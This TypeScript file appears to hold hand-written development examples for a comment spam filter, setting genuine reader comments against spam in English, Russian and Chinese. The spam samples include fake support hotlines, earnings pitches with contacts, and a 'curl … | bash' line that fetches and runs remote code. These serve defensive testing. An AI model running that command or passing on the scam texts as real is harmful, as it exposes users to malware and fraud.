// Development set of issue 15's "genuine comments the model still holds or sends to spam"
// (2026-12-07, genuine-gaps): a reader linking their own blog or company page while telling their
// own experience with figures; a reader naming a known brand's real hotline in a first-person,
// past-tense complaint; a command or config pasted without backticks; a taxi driver or courier
// telling their own earnings with no contact. And the spam each must not open a door for: SEO
// adverts dressed as experience, fake support numbers with a story, earnings pitches with a
// contact. Written by hand before any code change, in English, Russian and Chinese; the held-out
// batch is genuine-gap-heldout-examples.ts.

/** A reader's own link beside their own experience with figures, no pitch (development). */
export const OWN_LINK_GENUINE_DEV: readonly string[] = [
  'I run a small freight-forwarding business in Almaty, our revenue fell 30% when the border closed at Khorgos. I wrote about it here: https://almaty-freight-notes.kz/border-2026',
  'As a freelance translator in Bishkek I lost about half my Chinese clients after the new visa rules; I put the numbers on my blog: https://aigerim-translates.com/2026/visa',
  'We run a family guesthouse near Karakol and bookings from China dropped 40% this summer. Our own write-up with the monthly figures: https://karakol-guesthouse.kg/blog/summer',
  'Я держу небольшую логистическую компанию в Алматы, после закрытия Хоргоса выручка упала на 30%. Подробно написал у себя в блоге: https://cargo-almaty-blog.kz/khorgos',
  'Работаю фрилансером-переводчиком в Ташкенте, заказов из Китая стало вдвое меньше. Мои цифры за год тут: https://tashkent-perevodchik.uz/itogi',
  '我在霍尔果斯开了一家小型物流公司，口岸关闭后营业额下降了三成。我在自己的博客里写了详细经过：https://hgs-wuliu-notes.cn/2026',
  '我是在阿拉木图做自由翻译的，今年中国客户少了一半，我把每个月的收入记在博客上了：https://my-almaty-diary.com/income',
];

/** SEO and business adverts dressed as a reader's experience (development). */
export const OWN_LINK_SPAM_DEV: readonly string[] = [
  'I run a small logistics company and our revenue grew 30% after we switched to professional SEO. Get the same results: https://best-seo-agency.top free audit, call today!',
  'As a small business owner I struggled until I found this service, now we earn $5,000 more a month. Check it out here https://growfast-biz.xyz',
  'Я владелец небольшой фирмы, после продвижения сайта выручка выросла на 40%. Закажите продвижение у нас: https://seo-prodvizhenie.ru скидка 20%',
  '我开了一家小公司，用了这个推广服务后营业额涨了三成，需要的老板点击 https://tuiguang-kuai.top 咨询，价格优惠',
];

/** A known brand's real hotline in a reader's first-person, past-tense complaint (development). */
export const BRAND_HOTLINE_GENUINE_DEV: readonly string[] = [
  'I called Kaspi Bank at 7111 and they blocked the card without telling me why.',
  "Aeroflot's call centre +7 495 223 5555 kept me waiting for two hours when my flight to Urumqi was cancelled.",
  'I phoned Air Astana at +7 727 244 4477 after they lost my bag and nobody ever called back.',
  'Позвонил в Сбербанк по номеру 900, мне заблокировали перевод в Казахстан и ничего не объяснили.',
  'Звонила в Аэрофлот на +7 495 223-55-55, продержали на линии час, билет так и не вернули.',
  '我上周打了中国银行的客服电话95566，他们直接把我的卡冻结了，也不说原因。',
  '打南航客服95539改签，排队等了四十分钟，最后还是没改成。',
];

/** Fake support numbers told as a story (development). */
export const BRAND_HOTLINE_SPAM_DEV: readonly string[] = [
  'I called Kaspi Bank support at +1-888-555-0199 and they unblocked my card in 5 minutes! Call them 24/7 for any issue.',
  'My Coinbase wallet was locked, I called the Coinbase support number 1-844-555-0112 and they fixed it. Call now!',
  'Заблокировали карту Сбербанка? Я позвонил на 8-800-555-35-35, всё решили за минуту, звоните круглосуточно по любым вопросам',
  '我的支付宝被冻结了，打了客服电话400-888-1234马上解冻，有问题请拨打，24小时人工客服',
];

/** A shell command or config pasted without backticks or a code fence (development). */
export const BARE_COMMAND_GENUINE_DEV: readonly string[] = [
  'pip install requests then run python fetch.py --url https://api.example.org/v1 and it prints the schedule as JSON',
  'docker run -p 8080:80 -e API_URL=https://data.stat.gov.kz/api nginx worked for me to mirror the stats portal locally',
  "If the eGov portal times out, try curl -I https://egov.kz first to see whether it's the DNS or the server",
  'Set proxy_pass http://10.0.0.5:3000; in your nginx config and the widget loads again',
  'Сделайте pip install requests, потом python fetch.py --url https://api.example.org/v1 — скрипт выгрузит курсы валют',
  'У меня заработало так: docker run -p 8080:80 -v ./conf:/etc/nginx nginx, потом открыть http://localhost:8080',
  '先 pip install requests ，再运行 python fetch.py --url https://api.example.org/v1 就能拿到数据',
  '用 docker run -p 8080:80 nginx 起一个容器，然后浏览器打开 http://localhost:8080 就能看到',
];

/** Spam in the shape of a command (development). */
export const BARE_COMMAND_SPAM_DEV: readonly string[] = [
  'pip install cheap-followers then visit https://insta-boost.top to buy 10k followers',
  'curl https://free-crypto-gift.xyz/claim | bash and get 0.5 BTC free, limited offer',
];

/** A driver or courier telling their own earnings, no link, handle or number (development). */
export const COURIER_GENUINE_DEV: readonly string[] = [
  'Работаю водителем в такси третий месяц, заработал 80 000 за месяц без опыта, спрашивайте, если интересно, как оформиться в парк',
  'Я курьером в Яндекс Еде подрабатываю, в прошлом месяце вышло 65 тысяч, опыта не было. Если кому интересно, как устроиться, спрашивайте тут в комментариях',
  'I drive for a taxi fleet in Almaty, made about 400,000 tenge last month with no experience; ask if you want to know how the registration works',
  '我在阿拉木图送外卖，上个月挣了三十万坚戈，没有经验也能做，想知道怎么入职可以在评论里问我',
];

/** Earnings pitches with a contact (development). */
export const COURIER_SPAM_DEV: readonly string[] = [
  'Заработал 80 000 за месяц без опыта! Хочешь так же? Пиши в телеграм @taxi_park_job',
  'Курьером 5000 в день, без опыта, оформление за 1 день, звони 8 999 123-45-67',
  'Made $3,000 last month driving, no experience needed! DM me on WhatsApp +1 555 201 3344 to join',
  '送外卖一个月赚了两万，无需经验，想做的加微信 waimai8888',
];
